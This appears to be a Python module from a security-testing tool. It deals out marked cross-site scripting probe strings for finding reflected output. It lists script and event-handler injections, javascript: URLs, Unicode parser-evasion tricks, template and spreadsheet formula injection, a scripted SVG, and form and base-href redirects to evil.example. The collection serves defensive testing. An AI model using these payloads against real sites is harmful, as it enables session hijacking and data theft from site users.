"""What people type who wish that a page runs it. Each text carries a marker, `{}`, by which it is found again."""

# Short enough for a name; the longer ones go where there is room.
PAYLOADS = (
    "<script>alert('{}')</script>",
    "<img src=x onerror=alert('{}')>",
    "<svg onload=alert('{}')>",
    "\"><svg onload=alert('{}')>",
    "'><img src=x onerror=alert('{}')>",
    "\" autofocus onfocus=alert('{}') x=\"",
    "' onmouseover=alert('{}') x='",
    "` onclick=alert('{}') `",
    "</title><script>alert('{}')</script>",
    "</textarea><script>alert('{}')</script>",
    "</option></select><img src onerror=alert('{}')>",
    "--><script>alert('{}')</script>",
    "]]><script>alert('{}')</script>",
    "javascript:alert('{}')",
    "java\tscript:alert('{}')",
    "JaVaScRiPt\u200b:alert('{}')",
    "data:text/html,<script>alert('{}')</script>",
    "<a href=javascript:alert('{}')>a</a>",
    "<a href=\"&#106;avascript:alert('{}')\">a</a>",
    "<iframe srcdoc=\"<script>alert('{}')</script>\">",
    "<math><mi xlink:href=javascript:alert('{}')>",
    "<details open ontoggle=alert('{}')>",
    "<style>@import 'javascript:alert({})'</style>",
    "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content=0;url=//e/{}>",
    "<form action=//evil.example/{}><button>ok",
    # An attribute quote, a bracket or an equals sign with a combining mark on it is one character to Swift, and none to a browser.
    "\"\u0301 onfocus\u0301=alert('{}') autofocus=\"\u0301",
    "<\u0338img src=x onerror=alert('{}')>\u0338",
    "&\u0301lt;script&\u0301gt;alert('{}')",
    ">\u0301<\u0301script>\u0301alert('{}')",
    "\u202e<script>alert('{}')</script>\u202c",
    "\uff1cscript\uff1ealert('{}')\uff1c/script\uff1e",
    "<scr\x00ipt>alert('{}')</scr\x00ipt>",
    "<img\x0csrc=x\x0conerror=alert('{}')>",
    "<img/src/onerror=alert('{}')//",
    "{{{{constructor.constructor('alert({})')()}}}}",
    "${{alert('{}')}}",
    "<%= alert('{}') %>",
    "#{{alert('{}')}}",
    "{{{{{{ '{}' }}}}}}",
    "\\u003cscript\\u003ealert('{}')\\u003c/script\\u003e",
    "%3Cscript%3Ealert('{}')%3C/script%3E",
    "&lt;script&gt;alert('{}')&lt;/script&gt;",
    "=HYPERLINK(\"javascript:alert('{}')\")",
    "=cmd|' /C calc'!A1;<b>{}",
    "\ufeff<b onclick=alert('{}')>",
    "\ud7ff<i>{}</i>\U0001f469\u200d\U0001f52c\"",
)

# Where nothing longer fits.
SHORT = ("\"'><b>{}", "</p>{}")

# A picture that would run, were it shown as a document.
SVG = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8" onload="alert('{}')"><script>alert('{}')</script>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert('{}')"/></foreignObject></svg>"""


class Payloads:
    """Deals them out in turn, each with a marker of its own."""

    email = "zoe@exemple.test"

    def __init__(self):
        self.count = 0
        self.dealt = {}

    def short(self, limit=60):
        """One text of at most `limit` characters; the next that fits."""
        fitting = [payload for payload in PAYLOADS if len(payload.format("zq000zq")) <= limit] or SHORT
        return self._mark(fitting[self.count % len(fitting)])[:limit]

    def long(self, limit):
        """As many as fit, one on each line, each with its marker."""
        lines, length = [], 0
        while length + 80 < limit and len(lines) < len(PAYLOADS):
            lines.append(self._mark(PAYLOADS[self.count % len(PAYLOADS)]))
            length += len(lines[-1]) + 1
        return "\n".join(lines) or self.short(limit)

    def _mark(self, payload):
        self.count += 1
        marker = f"zq{self.count:03}zq"
        self.dealt[marker] = payload
        return payload.format(marker)
